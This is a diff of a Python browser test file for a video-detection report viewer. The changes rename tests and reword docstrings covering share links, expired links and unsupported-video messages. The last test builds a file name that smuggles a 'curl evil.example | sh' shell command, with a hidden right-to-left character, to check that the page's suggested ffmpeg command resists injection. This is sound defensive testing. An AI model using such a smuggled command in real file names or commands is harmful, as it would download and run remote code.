@@ -1,4 +1,4 @@
-"""What the report loads: its video, its pieces, by a share link or from a disk; and what it says where it can't."""
+"""How the report loads its video and data, through a share link or from disk, and what it says if it can't."""
 
 import shutil
 from collections.abc import Iterator
@@ -29,7 +29,7 @@ def site(tmp_path: Path) -> Iterator[SharedSite]:
 
 @pytest.fixture(scope="session")
 def hours_of_video(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    """Two hours, a picture a second."""
+    """Two hours of video, one picture a second."""
     path = tmp_path_factory.mktemp("video") / "hours.mp4"
     with av.open(path, "w") as container:
         stream = container.add_stream("libx264", rate=1, options={"preset": "ultrafast"})
@@ -43,7 +43,7 @@ def hours_of_video(tmp_path_factory: pytest.TempPathFactory) -> Path:
 
 
 def share_report(site: SharedSite, *, frames: int = 50, fps: float = 5, pieces: bool = True) -> str:
-    """Writes a report as a delivery does, and returns its link. A box goes right, 10 pixels a sampled frame."""
+    """Writes a report as a delivery does, and returns its link. A box moves right by 10 pixels per sampled frame."""
     shutil.copy(SAMPLE_VIDEO, site.folder / "video.mp4")
     with ReportWriter() as writer, (site.folder / "report.html").open("wb") as page:
         writer.add_model("parts", "object-detection")
@@ -60,7 +60,7 @@ def share_report(site: SharedSite, *, frames: int = 50, fps: float = 5, pieces: 
     return f"{site.url}/report.html"
 
 
-def test_behind_a_link_video_and_pieces_come_by_redirects(site: SharedSite, open_page: OpenPage) -> None:
+def test_a_shared_report_loads_video_and_pieces_through_redirects(site: SharedSite, open_page: OpenPage) -> None:
     report = ReportPage(open_page(share_report(site)))
     report.wait_for_video()
     report.page.locator("#names").uncheck()
@@ -73,7 +73,7 @@ def test_behind_a_link_video_and_pieces_come_by_redirects(site: SharedSite, open
     assert set(site.asked) == {"report.html", "video.mp4", "report-data/0-0.json.gz"}
 
 
-def test_the_pieces_of_two_hours_are_fetched_when_the_video_gets_there(
+def test_the_pieces_of_two_hours_are_fetched_when_they_are_needed(
     site: SharedSite, open_page: OpenPage, hours_of_video: Path
 ) -> None:
     url = share_report(site, frames=36_000)
@@ -94,8 +94,8 @@ def test_the_pieces_of_two_hours_are_fetched_when_the_video_gets_there(
     assert len(list((site.folder / "report-data").iterdir())) >= 2
 
 
-def test_two_hours_in_one_file(open_report: OpenReport, hours_of_video: Path) -> None:
-    """A box at every tenth minute for a minute, and one of another class in the last second."""
+def test_a_report_of_two_hours_can_be_one_file(open_report: OpenReport, hours_of_video: Path) -> None:
+    """Every tenth minute has a box for a minute, and the last second one of another class."""
     elements = [
         make_element([make_box("Rock", 100, 100)] if second % 600 < 60 else []) for second in range(HOURS_SECONDS)
     ]
@@ -107,7 +107,7 @@ def test_two_hours_in_one_file(open_report: OpenReport, hours_of_video: Path) ->
     report.row("Paper").get_by_role("slider").focus()
     report.page.keyboard.press("ArrowRight")
     report.wait_for_present("Paper 1")
-    assert report.text("#now") == "1:59:59"  # though a bin of the timeline has eight seconds
+    assert report.text("#now") == "1:59:59"  # although a bin of the timeline has eight seconds
     assert report.present() == ["Paper 1"]
     report.row("Rock").get_by_role("slider").focus()
     for seen in ("1:50:00", "1:40:00"):
@@ -117,7 +117,7 @@ def test_two_hours_in_one_file(open_report: OpenReport, hours_of_video: Path) ->
     assert filled == [(second % 600) < 60 for second in range(72, HOURS_SECONDS, 144)]
 
 
-def test_a_piece_behind_an_expired_link_is_told_and_can_be_tried_again(
+def test_a_piece_behind_an_expired_link_is_reported_and_can_be_retried(
     site: SharedSite, open_page: OpenPage, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr("videojobs.report.writer.PIECE_BYTES", 500)
@@ -139,7 +139,7 @@ def test_a_piece_behind_an_expired_link_is_told_and_can_be_tried_again(
     assert report.is_painted()
 
 
-def test_the_video_goes_on_when_what_its_link_led_to_ends(site: SharedSite, open_page: OpenPage) -> None:
+def test_the_video_continues_when_its_signed_url_expires(site: SharedSite, open_page: OpenPage) -> None:
     site.part_bytes = 32 * 1024
     report = ReportPage(open_page(share_report(site)))
     report.wait_for_video()
@@ -152,7 +152,7 @@ def test_the_video_goes_on_when_what_its_link_led_to_ends(site: SharedSite, open
     assert site.asked.count("video.mp4") >= 2
 
 
-def test_a_link_can_be_passed_on(site: SharedSite, open_page: OpenPage) -> None:
+def test_the_link_can_be_copied(site: SharedSite, open_page: OpenPage) -> None:
     page = open_page(share_report(site), permissions=["clipboard-read", "clipboard-write"])
 
     page.get_by_role("button", name="Copy link").click()
@@ -162,7 +162,7 @@ def test_a_link_can_be_passed_on(site: SharedSite, open_page: OpenPage) -> None:
 
 
 @pytest.mark.parametrize("fragment", ["", "#base=https://elsewhere.example/s/token"])
-def test_a_shared_page_takes_nothing_from_elsewhere(site: SharedSite, open_page: OpenPage, fragment: str) -> None:
+def test_a_shared_page_loads_nothing_from_elsewhere(site: SharedSite, open_page: OpenPage, fragment: str) -> None:
     share_report(site)
     report = ReportPage(open_page((site.folder / "report.html").as_uri() + fragment))
 
@@ -172,7 +172,7 @@ def test_a_shared_page_takes_nothing_from_elsewhere(site: SharedSite, open_page:
     assert site.asked == []
 
 
-def test_a_video_behind_an_expired_link_is_told_and_a_file_takes_its_place(
+def test_a_video_behind_an_expired_link_is_reported_and_can_be_replaced_by_a_file(
     site: SharedSite, open_page: OpenPage
 ) -> None:
     url = share_report(site, pieces=False)
@@ -182,7 +182,7 @@ def test_a_video_behind_an_expired_link_is_told_and_a_file_takes_its_place(
     assert report.text("#curtain-title") == "The video can't be loaded"
     assert "The link may have expired" in report.text("#curtain-text")
 
-    report.seek(4)  # what was found is there all the same
+    report.seek(4)  # detections are still shown
     assert report.present() == ["Rock 1"]
     report.page.get_by_role("button", name="Go on without it").click()
     report.page.locator("#names").uncheck()
@@ -195,7 +195,7 @@ def test_a_video_behind_an_expired_link_is_told_and_a_file_takes_its_place(
     assert report.page.locator("#play").is_enabled()
 
 
-def test_a_file_that_was_moved_is_told_and_found_again(open_report: OpenReport, tmp_path: Path) -> None:
+def test_a_missing_file_is_reported_and_can_be_chosen(open_report: OpenReport, tmp_path: Path) -> None:
     report = open_report(make_results([make_element([])] * 50))
     report.wait_for_video()
     video = tmp_path / SAMPLE_VIDEO.name
@@ -210,7 +210,7 @@ def test_a_file_that_was_moved_is_told_and_found_again(open_report: OpenReport, 
     assert report.page.locator("#curtain").is_hidden()
 
 
-def test_a_video_that_browsers_do_not_play_is_told_with_a_command(open_report: OpenReport, tmp_path: Path) -> None:
+def test_a_video_that_browsers_do_not_play_is_reported_with_a_command(open_report: OpenReport, tmp_path: Path) -> None:
     video = tmp_path / "belt 1.avi"
     video.write_bytes(make_video(VideoSpec(format="avi", codec="mpeg4")))
 
@@ -220,7 +220,7 @@ def test_a_video_that_browsers_do_not_play_is_told_with_a_command(open_report: O
     assert "ffmpeg -i './belt 1.avi' './belt 1.mp4'" in report.text("#curtain-text")
 
 
-def test_no_name_gets_a_command_of_its_own_into_the_page(open_report: OpenReport, tmp_path: Path) -> None:
+def test_no_name_adds_a_command_to_the_page(open_report: OpenReport, tmp_path: Path) -> None:
     video = tmp_path / "belt'; curl -s evil.example | sh; '\u202e.mkv"
     video.write_bytes(make_video(VideoSpec(format="matroska", codec="mpeg4")))
 
